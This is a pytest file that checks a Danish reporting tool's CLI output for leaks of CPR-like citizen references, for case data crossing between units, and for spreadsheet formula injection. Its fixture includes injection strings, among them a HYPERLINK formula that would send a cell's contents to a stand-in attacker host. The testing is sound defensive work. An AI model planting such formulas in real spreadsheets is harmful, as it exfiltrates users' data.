"""Privacy and formula injection, checked on the files a real ``sagstid run`` writes.

* No citizen reference reaches any output: the source's ``citizen_ref`` values are CPR-like
  (with and without the dash); every produced file is scanned byte by byte (each XML part of
  each workbook unzipped; results.json; anything else in the folder), and so is the output.
* A unit's workbook holds only its own unit's cases: every case row of every unit workbook is
  read back and its case number traced to its unit; no other unit's case number occurs anywhere
  in the workbook; the committee workbook and results.json hold no case numbers at all.
* Source text that a spreadsheet would take for a formula (case numbers ``=HYPERLINK(...)``,
  ``+1``, ``-1``, ``@SUM(1)``, ``=1+1``; unit names ``=2+2``, ``+Ydelsesservice``) is written
  as text: openpyxl reads it as a string cell (data type ``s``) and no sheet has an ``<f>``.

Fixture (shipped config, KH-ANS = 3 weeks from 2024-07-01): every decision is received on
Tue 2025-04-01, so D = 2025-04-22; "within" rows are decided 2025-04-10, "late" rows
2025-05-01 (9 days over). Period 2025-04-01..2025-06-30.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from click.testing import CliRunner

from sagstid.cli import cli
from sagstid.report.xlsx import load_layout

REFS = ["010203-1234", "0102031234", "241280-4321", "3112999999"]


def ref_forms(ref: str) -> set[bytes]:
    """A CPR-like reference as written in the source, without the dash and with it."""
    digits = ref.replace("-", "")
    return {ref.encode(), digits.encode(), f"{digits[:6]}-{digits[6:]}".encode()}


UNITS = [
    ("JC-NORD", "Jobcenter Nord", "jobcenter"),
    ("JC-SYD", "=2+2", "jobcenter"),
    ("YS", "+Ydelsesservice", "ydelsesservice"),
]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
# (case number, unit, late?)
CASES = [
    ("SAG-N-01", "JC-NORD", False),
    ("SAG-N-02", "JC-NORD", True),
    (HYPERLINK, "JC-NORD", True),
    ("+1", "JC-NORD", True),
    ("SAG-S-01", "JC-SYD", True),
    ("-1", "JC-SYD", True),
    ("@SUM(1)", "JC-SYD", True),
    ("SAG-S-02", "JC-SYD", False),
    ("SAG-Y-01", "YS", True),
    ("=1+1", "YS", True),
]
INJECTIONS = {HYPERLINK, "+1", "-1", "@SUM(1)", "=1+1", "=2+2", "+Ydelsesservice"}
CASE_UNIT = {case: unit for case, unit, _ in CASES}
LATE = {code: {c for c, u, late in CASES if u == code and late} for code, _, _ in UNITS}
# Text of each unit's cases that cannot occur by chance in another unit's workbook XML.
MARKS = {
    code: {c.encode() for c, u, _ in CASES if u == code and c.startswith("SAG-")} for code, _, _ in UNITS
}
MARKS["JC-NORD"] |= {b"evil.example", b"HYPERLINK"}
MARKS["JC-SYD"] |= {b"@SUM(1)"}


def decisions() -> list[dict[str, object]]:
    return [
        {
            "decision_id": i,
            "case_id": case,
            "citizen_ref": REFS[i % len(REFS)],
            "unit_code": unit,
            "case_area_code": "KH-ANS",
            "received_date": "2025-04-01",
            "decided_date": "2025-05-01" if late else "2025-04-10",
            "sent_date": "2025-05-01" if late else "2025-04-10",
            "delay_notice_date": None,
        }
        for i, (case, unit, late) in enumerate(CASES, start=1)
    ]


def complaints() -> list[dict[str, object]]:
    return [
        {
            "complaint_id": i,
            "case_id": f"KLAGE-{i}",
            "citizen_ref": REFS[i % len(REFS)],
            "unit_code": unit,
            "complaint_kind": kind,
            "via_ombudsman": 0,
            "insured_unemployed": 0,
            "five_day_rule": 0,
            "received_date": "2025-04-02",
            "answered_date": "2025-04-20",
            "outcome": "upheld",
        }
        for i, (unit, kind) in enumerate(
            [("JC-NORD", "decision"), ("JC-SYD", "handling"), ("YS", "decision")], start=1
        )
    ]


@pytest.fixture
def run(make_db: Callable[..., str], config_dir: Path, tmp_path: Path) -> tuple[Path, str]:
    db = make_db(units=UNITS, decisions=decisions(), complaints=complaints())
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli,
        [
            "run",
            "--db",
            db,
            "--config",
            str(config_dir),
            "--from",
            "2025-04-01",
            "--to",
            "2025-06-30",
            "--out",
            str(out),
            "--workers",
            "2",
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    return out, result.output


def parts(path: Path) -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of a file, or of every part inside it if it is a zip (xlsx)."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                yield f"{path.name}!{name}", archive.read(name)
    else:
        yield path.name, path.read_bytes()


def all_parts(out: Path) -> list[tuple[str, bytes]]:
    return [part for path in sorted(out.rglob("*")) if path.is_file() for part in parts(path)]


def test_no_citizen_reference_in_any_output(run: tuple[Path, str]) -> None:
    out, output = run
    files = sorted(p.name for p in out.rglob("*"))
    assert files == [
        ".sagstid-out",  # the --out folder's marker (docs/operations.md): a fixed Danish sentence
        "enhed-JC-NORD.xlsx",
        "enhed-JC-SYD.xlsx",
        "enhed-YS.xlsx",
        "forventet-sagsbehandlingstid.csv",
        "forventet-sagsbehandlingstid.html",
        "manifest.json",
        "results.json",
        "udvalg.xlsx",
    ]
    scanned = all_parts(out)
    assert len(scanned) > 20  # the XML parts of four workbooks, results.json, manifest.json, the csv and html
    for ref in REFS:
        for form in ref_forms(ref):
            assert form not in output.encode()
            for name, data in scanned:
                assert form not in data, (ref, form, name)


def test_the_scan_would_see_a_reference(tmp_path: Path) -> None:
    """The scan reads inside the (compressed) workbook: a reference written into a cell is found."""
    book = xlsxwriter.Workbook(str(tmp_path / "leak.xlsx"))  # the library sagstid writes with
    book.add_worksheet().write_string("B2", "borger 0102031234")
    book.close()
    assert b"0102031234" not in (tmp_path / "leak.xlsx").read_bytes()  # compressed
    found = [name for name, data in all_parts(tmp_path) if b"0102031234" in data]
    assert found == ["leak.xlsx!xl/sharedStrings.xml"]


def case_rows(path: Path) -> list[str]:
    """The case numbers in the exceeded-decisions sheet, read row by row below its header."""
    layout = load_layout()
    sheet = openpyxl.load_workbook(path)[layout.text("sheets.exceeded")]
    heading = layout.text("columns.case_id")
    rows = list(sheet.iter_rows())
    header = next(i for i, row in enumerate(rows) if row[0].value == heading)
    cases = []
    for row in rows[header + 1 :]:
        if row[0].value is None and all(c.value is None for c in row):
            break
        cases.append(row[0].value)
    return cases


def test_unit_workbook_holds_only_its_own_cases(run: tuple[Path, str]) -> None:
    out, _ = run
    for code, _, _ in UNITS:
        path = out / f"enhed-{code}.xlsx"
        cases = case_rows(path)
        # every case row is this unit's, and every late decision of the unit is listed
        assert {CASE_UNIT[c] for c in cases} == {code}, (code, cases)
        assert sorted(cases) == sorted(LATE[code]), code
        # nothing of another unit's cases anywhere in the workbook (any sheet, any part)
        others = set().union(*(marks for unit, marks in MARKS.items() if unit != code))
        for name, data in parts(path):
            for mark in others:
                assert mark not in data, (code, mark, name)


def test_committee_workbook_and_results_hold_no_cases(run: tuple[Path, str]) -> None:
    out, _ = run
    for path in (out / "udvalg.xlsx", out / "results.json"):
        for name, data in parts(path):
            assert b"SAG-" not in data and b"KLAGE-" not in data, name
            assert b"HYPERLINK" not in data and b"evil.example" not in data, name
    results = json.loads((out / "results.json").read_text(encoding="utf-8"))
    # 10 decisions measured: 8 late, 2 within -> 20 %; aggregates only
    assert results["decisions"]["total"]["decisions"] == 10
    assert results["decisions"]["total"]["within_deadline"] == 2


def test_formula_like_source_text_is_written_as_text(run: tuple[Path, str]) -> None:
    out, _ = run
    seen: dict[str, set[str]] = {}
    for path in sorted(out.glob("*.xlsx")):
        for name, data in parts(path):
            if name.split("!")[1].startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", data), name
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value in INJECTIONS:
                        assert cell.data_type == "s", (path.name, sheet.title, cell.coordinate)
                        seen.setdefault(cell.value, set()).add(path.name)
    # each injected case number is there, verbatim, as text in its own unit's workbook
    for case, unit, late in CASES:
        if late and case in INJECTIONS:
            assert f"enhed-{unit}.xlsx" in seen.get(case, set()), (case, seen)
    # and the unit names, wherever a workbook shows a name in a cell of its own
    assert "=2+2" in seen and "+Ydelsesservice" in seen, seen
